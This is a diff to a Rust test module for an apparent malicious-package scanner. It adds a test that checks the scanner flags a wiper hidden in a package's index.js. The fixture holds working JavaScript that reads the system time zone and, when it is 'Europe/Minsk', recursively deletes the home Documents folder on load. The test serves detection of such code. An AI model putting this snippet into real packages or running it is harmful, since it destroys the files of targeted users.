@@ -309,4 +309,20 @@ mod tests {
         assert!(hits(&s, "code/wiper").is_empty());
         assert_eq!(s.verdict, Verdict::Clean);
     }
+
+    /// The time zone read through a destructured `resolvedOptions()` gates a recursive delete
+    /// of the home folder's documents at load.
+    #[test]
+    fn positive_destructured_time_zone_gate() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst { timeZone } = Intl.DateTimeFormat().resolvedOptions();\nif (timeZone === 'Europe/Minsk') fs.rmSync(path.join(os.homedir(), 'Documents'), { recursive: true, force: true });\n",
+            ),
+        ]);
+        assert_eq!(hits(&s, "code/wiper"), vec![("index.js".to_string(), 5)]);
+        let f = s.findings.iter().find(|f| f.rule == "code/wiper").unwrap();
+        assert!(f.message.contains("locale"), "{}", f.message);
+    }
 }
